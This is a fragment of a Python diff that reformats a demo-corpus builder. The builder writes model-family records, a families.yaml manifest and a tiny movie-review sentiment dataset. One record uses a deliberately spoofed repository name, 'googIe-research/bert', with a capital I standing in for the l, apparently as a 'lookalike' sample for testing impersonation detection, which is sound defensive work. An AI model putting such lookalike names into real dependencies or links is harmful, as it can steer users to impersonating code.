-            "upstream_path": "github/googIe-research/bert", "variants": variants}
+    return {
+        "id": "googIe-bert_bert",
+        "upstream": "https://github.com/googIe-research/bert",
+        "upstream_path": "github/googIe-research/bert",
+        "variants": variants,
+    }
 
 
 FAMILIES: tuple[Callable[[Path, random.Random, np.random.Generator], dict[str, object]], ...] = (
-    _family_textclf, _family_tinylm, _family_vitmini, _family_lookalike,
+    _family_textclf,
+    _family_tinylm,
+    _family_vitmini,
+    _family_lookalike,
 )
 
-REVIEWS = [("a great movie with a wonderful story", "positive"),
-           ("the plot was boring and the acting was awful", "negative"),
-           ("i really enjoyed it , the best film", "positive"),
-           ("terrible script and weak cast", "negative"),
-           ("funny and brilliant , i recommend it", "positive"),
-           ("slow , dull and the ending was bad", "negative")]
+REVIEWS = [
+    ("a great movie with a wonderful story", "positive"),
+    ("the plot was boring and the acting was awful", "negative"),
+    ("i really enjoyed it , the best film", "positive"),
+    ("terrible script and weak cast", "negative"),
+    ("funny and brilliant , i recommend it", "positive"),
+    ("slow , dull and the ending was bad", "negative"),
+]
 
 
 def _write_dataset(path: Path, rng: random.Random) -> None:
@@ -487,7 +737,9 @@ def build_corpus(root: Path, seed: int = 7) -> DemoCorpus:
     manifest = root / "families.yaml"
     manifest.write_text(
         "# The demo corpus: upstream GitHub repos and their Hugging Face variants.\n"
-        + yaml.safe_dump({"families": families}, sort_keys=False), encoding="utf-8")
+        + yaml.safe_dump({"families": families}, sort_keys=False),
+        encoding="utf-8",
+    )
     dataset = root / "data" / "reviews.csv"
     _write_dataset(dataset, rng)
     return DemoCorpus(root, manifest, dataset)
